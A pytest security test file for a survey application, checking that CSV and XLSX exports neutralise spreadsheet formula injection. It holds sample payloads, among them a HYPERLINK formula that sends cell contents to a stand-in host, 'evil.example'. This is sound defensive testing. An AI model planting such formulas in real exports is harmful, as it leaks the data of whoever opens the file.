"""CSV and formula injection: text that a spreadsheet would run (a citizen's comment, a unit
name, a login name, a value of an input file) is written as inert text by every export.

CSV: such a cell starts with a single quote (OWASP). XLSX: a string cell, never a formula,
with the "quote prefix" style. Ordinary text and numbers come out unchanged. The rule is
analysis/safe_text.py's."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import select, update

import analysis
import questionnaires
from survey_app.extensions import db
from survey_app.models import Comment, Response, Unit
from survey_app.services import catalog
from tests.security.hostile import signed_in
from tests.support import ORG, cli_runner, issue_codes, store_random_answers

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
PAYLOADS = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
ORDINARY = "Cán bộ nhiệt tình, 5 sao - cảm ơn"  # a dash inside the text is no formula
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# The response export's text columns are stripped of white space (analysis.load_database).
STRIPPED = tuple(dict.fromkeys(payload.strip() for payload in PAYLOADS))
SIPAS = questionnaires.load("sipas-2023")


# -- reading the results --------------------------------------------------------------------
def _csv_rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _assert_csv_inert(rows: list[dict[str, str]], column: str, payloads=PAYLOADS) -> None:
    """Each payload is in ``column`` behind one quote; no cell of any column starts with a
    character that a spreadsheet runs."""
    cells = [row[column] for row in rows]
    for payload in payloads:
        assert "'" + payload in cells, f"{payload!r} is not neutralised in {column}: {cells!r}"
        assert payload not in cells, f"{payload!r} is written as it is in {column}"
    for row in rows:
        for name, cell in row.items():
            assert cell[:1] not in DANGEROUS, f"{name}: {cell!r} would run in a spreadsheet"


def _xlsx_cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _as_read(text: str) -> str:
    return text.replace("\r", "\n")  # XML reads a carriage return as a line feed


def _assert_xlsx_inert(data: bytes, payloads=PAYLOADS) -> list:
    """No cell is a formula; each payload is a string cell with the quote-prefix style and
    its value as it was."""
    cells = _xlsx_cells(data)
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert not formulas, f"formulas in the workbook: {formulas}"
    for payload in payloads:
        found = [cell for cell in cells if cell.value == _as_read(payload)]
        assert found, f"{payload!r} is not in the workbook"
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in found), payload
    return cells


# -- planting the payloads ------------------------------------------------------------------
def _plant_comments(app) -> None:
    """One comment per payload and an ordinary one, through the citizen's path. The form strips
    leading white space, so the tab and CR payloads (from an older database or an import) are
    set in the table as they are."""
    for seed, text in enumerate([*PAYLOADS, ORDINARY]):
        store_random_answers(app, seed=seed, comment=text)
    with app.app_context():
        ids = db.session.scalars(select(Comment.id).where(Comment.text == "=1").order_by(Comment.id)).all()
        assert len(ids) == 2
        for comment_id, text in zip(ids, ("\t=1", "\r=1"), strict=True):
            db.session.execute(update(Comment).where(Comment.id == comment_id).values(text=text))
        db.session.commit()


def _plant_responses(app) -> list[str]:
    """Responses whose coded text fields hold the payloads: the form allows only the option
    values, but the export must not trust the table to hold nothing else. Returns their ids."""
    store_random_answers(app, count=len(PAYLOADS) + 1, seed=7)
    with app.app_context():
        ids = db.session.scalars(select(Response.id).order_by(Response.id)).all()
        for response_id, text in zip(ids, [*PAYLOADS, ORDINARY], strict=True):
            db.session.execute(update(Response).where(Response.id == response_id).values(occupation=text))
        db.session.commit()
    return list(ids)


def _plant_unit_names(app) -> list[str]:
    """A unit under SEC per payload (and one with an ordinary name), one code issued in each."""
    codes = [f"X{i}" for i in range(len(PAYLOADS) + 1)]
    with app.app_context():
        for code, name in zip(codes, [*PAYLOADS, ORDINARY], strict=True):
            catalog.add_unit(code, name, parent=ORG.section)
        for code, name in zip(codes, PAYLOADS, strict=False):  # add_unit strips a tab or CR
            db.session.execute(update(Unit).where(Unit.code == code).values(name=name))
        db.session.commit()
    for code in codes:
        issue_codes(app, unit=code)
    return codes


def _answers_in_db(app) -> pd.DataFrame:
    with app.app_context():
        return analysis.load_database(db.engine)


# -- sipas export ---------------------------------------------------------------------------
def test_cli_export_comments_csv(app, runner):
    _plant_comments(app)
    result = runner.invoke(["export", "comments"])
    assert result.exit_code == 0, result.output
    rows = _csv_rows(result.stdout_bytes)
    _assert_csv_inert(rows, "text")
    assert ORDINARY in [row["text"] for row in rows]
    assert {row["unit"] for row in rows} == {ORG.section}


def test_cli_export_comments_xlsx(app, runner, tmp_path):
    _plant_comments(app)
    target = tmp_path / "comments.xlsx"
    result = runner.invoke(["export", "comments", "--format", "xlsx", "-o", str(target)])
    assert result.exit_code == 0, result.output
    cells = _assert_xlsx_inert(target.read_bytes())
    ordinary = [cell for cell in cells if cell.value == ORDINARY]
    assert ordinary and not ordinary[0].quotePrefix


def test_cli_export_responses_csv_keeps_numbers_and_round_trips(app, runner):
    ids = _plant_responses(app)
    result = runner.invoke(["export", "responses"])
    assert result.exit_code == 0, result.output
    raw = result.stdout_bytes
    rows = _csv_rows(raw)
    _assert_csv_inert(rows, "occupation", payloads=STRIPPED)
    direct = _answers_in_db(app).set_index("response_id")
    by_id = {row["response_id"]: row for row in rows}
    assert by_id[ids[-1]]["occupation"] == ORDINARY
    for response_id in ids:  # answers are numbers, written as they are
        for code in SIPAS.answer_columns:
            expected = direct.at[response_id, code]
            assert by_id[response_id][code] == ("" if pd.isna(expected) else str(int(expected)))
    # The analysis reads the export back: the added quote is gone, answers are the same.
    back = analysis.read_responses(raw).set_index("response_id")
    for response_id, text in zip(ids, [*PAYLOADS, ORDINARY], strict=True):
        assert back.at[response_id, "occupation"] == text.strip()  # text columns are stripped
    pd.testing.assert_frame_equal(back[list(SIPAS.answer_columns)], direct.loc[back.index, list(SIPAS.answer_columns)],
                                  check_dtype=False)


def test_cli_export_responses_xlsx(app, runner, tmp_path):
    ids = _plant_responses(app)
    target = tmp_path / "responses.xlsx"
    assert runner.invoke(["export", "responses", "--format", "xlsx", "-o", str(target)]).exit_code == 0
    data = target.read_bytes()
    _assert_xlsx_inert(data, payloads=STRIPPED)
    back = analysis.read_responses(data).set_index("response_id")
    for response_id, text in zip(ids, [*PAYLOADS, ORDINARY], strict=True):
        assert back.at[response_id, "occupation"] == text.strip()
    direct = _answers_in_db(app).set_index("response_id")
    pd.testing.assert_frame_equal(back[list(SIPAS.answer_columns)], direct.loc[back.index, list(SIPAS.answer_columns)],
                                  check_dtype=False)


# -- web downloads --------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_analyst_response_download(app, fmt):
    _plant_responses(app)
    client, _ = signed_in(app, "analyst")
    response = client.get(f"/analyst/download/responses.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        rows = _csv_rows(response.data)
        _assert_csv_inert(rows, "occupation", payloads=STRIPPED)
        assert ORDINARY in [row["occupation"] for row in rows]
        assert all(row["TC1"] in ("", "1", "2", "3", "4", "5") for row in rows)
    else:
        _assert_xlsx_inert(response.data, payloads=STRIPPED)


def test_staff_response_rate_csv(app):
    codes = _plant_unit_names(app)
    client, _ = signed_in(app, "admin")
    response = client.get("/staff/rates?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _csv_rows(response.data)
    _assert_csv_inert(rows, "unit_name")
    planted = {row["unit"]: row for row in rows if row["unit"] in codes}
    assert planted[codes[-1]]["unit_name"] == ORDINARY
    assert all(row["issued"] == "1" for row in planted.values())  # numbers unchanged


def test_admin_audit_log_csv(app):
    """Login names typed at the login form reach the audit log as they were typed."""
    client, token = signed_in(app, "anonymous")
    typed = [payload for payload in PAYLOADS if payload == payload.strip()]  # the form strips the rest
    for name in typed:
        client.post("/staff/login", data={"username": name, "password": "x" * 12, "csrf_token": token})
    admin, _ = signed_in(app, "admin")
    response = admin.get("/admin/audit.csv")
    assert response.status_code == 200
    rows = _csv_rows(response.data)
    _assert_csv_inert(rows, "actor", payloads=[name.lower() for name in typed])


PLAN = f"""
title = "+1+1"
organisation = "@SUM(A1)"
questionnaire = "sipas-2023"

[targets]
overall = 80

[units.{ORG.section}]
name = '{HYPERLINK}'
"""


def test_analyst_report_xlsx(app, tmp_path):
    plan = tmp_path / "plan.toml"
    plan.write_text(PLAN, encoding="utf-8")
    app.config["SIPAS_PLAN_FILE"] = str(plan)
    store_random_answers(app, count=8, seed=3)
    client, _ = signed_in(app, "analyst")
    response = client.get("/analyst/download/report.xlsx")
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    _assert_xlsx_inert(response.data, payloads=(HYPERLINK, "+1+1", "@SUM(A1)"))


# -- sipas analyze and sipas report on an input file ----------------------------------------
def _input_csv(path: Path, units: list[str]) -> Path:
    """A response file from elsewhere whose unit codes are the payloads (6 answers each)."""
    rows = []
    for unit in units:
        for i in range(6):
            row = {"questionnaire": "sipas-2023", "unit": unit, "submitted_on": "2026-03-01"}
            row.update({code: 4 + (i % 2) for code in SIPAS.answer_columns})
            row.update({item.code: 2 for item in SIPAS.expectations})  # scale 1-3
            rows.append(row)
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


UNIT_CODES = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "VP"]  # read_responses strips the tab and CR


def test_cli_analyze_csv_and_xlsx(app, tmp_path):
    runner = cli_runner(app)
    source = _input_csv(tmp_path / "in.csv", UNIT_CODES)
    out_csv = tmp_path / "indices.csv"
    result = runner.invoke(["analyze", str(source), "--by", "unit", "-o", str(out_csv)])
    assert result.exit_code == 0, result.output
    rows = _csv_rows(out_csv.read_bytes())
    _assert_csv_inert(rows, "unit", payloads=UNIT_CODES[:-1])
    assert "VP" in [row["unit"] for row in rows]
    assert all(float(row["n"]) == 6 for row in rows if row.get("n"))
    out_xlsx = tmp_path / "indices.xlsx"
    result = runner.invoke(["analyze", str(source), "--by", "unit", "-o", str(out_xlsx)])
    assert result.exit_code == 0, result.output
    _assert_xlsx_inert(out_xlsx.read_bytes(), payloads=UNIT_CODES[:-1])


def test_cli_report_xlsx(app, tmp_path):
    runner = cli_runner(app)
    source = _input_csv(tmp_path / "in.csv", UNIT_CODES)
    plan = tmp_path / "plan.toml"
    plan.write_text(PLAN.replace(f"[units.{ORG.section}]", "[units.VP]"), encoding="utf-8")
    target = tmp_path / "report.xlsx"
    result = runner.invoke(["report", "--plan", str(plan), "--period", "2026", str(source), "-o", str(target)])
    assert result.exit_code == 0, result.output
    cells = _assert_xlsx_inert(target.read_bytes(), payloads=[*UNIT_CODES[:-1], "@SUM(A1)"])
    assert any(cell.data_type == "n" and cell.value is not None for cell in cells)  # numbers stay numbers


# -- the rule itself ------------------------------------------------------------------------
def test_the_rule_touches_text_only_and_can_be_undone():
    from analysis.safe_text import neutralise, neutralise_frame, restore, restore_frame

    texts = [*PAYLOADS, ORDINARY, "", "'", "'=1", "''+2", "'ok", "a=b", "5", "-", "=", None]
    for text in texts:
        assert restore(neutralise(text)) == text, text
    frame = pd.DataFrame({
        "text": pd.Series(["=1+1", "-2", "ok", None], dtype=object),
        "mixed": pd.Series([-2, "-2", 3.5, None], dtype=object),
        "negative": [-2, -1, 0, 3],
        "float": [-2.5, float("nan"), 0.0, 1.0],
        "nullable": pd.array([-2, None, 1, 5], dtype="Int64"),
        "string": pd.array(["@x", "y", None, "+z"], dtype="string"),
        "=header": [1, 2, 3, 4],
    })
    written = neutralise_frame(frame)
    assert written["text"].tolist()[:3] == ["'=1+1", "'-2", "ok"]
    assert written["mixed"].tolist()[:3] == [-2, "'-2", 3.5]  # a number stays a number
    for column in ("negative", "float", "nullable"):
        pd.testing.assert_series_equal(written[column], frame[column])
    assert written["string"].tolist()[:2] == ["'@x", "y"] and written["string"].tolist()[3] == "'+z"
    assert "'=header" in written.columns and "=header" in frame.columns  # the input is not changed
    text = written.to_csv(index=False)
    assert text.splitlines()[1] == "'=1+1,-2,-2,-2.5,-2,'@x,1"
    back = restore_frame(pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False, na_values=[""]))
    assert back.columns.tolist() == frame.columns.tolist()
    assert back["text"].tolist()[:3] == ["=1+1", "-2", "ok"] and back["string"].tolist()[0] == "@x"
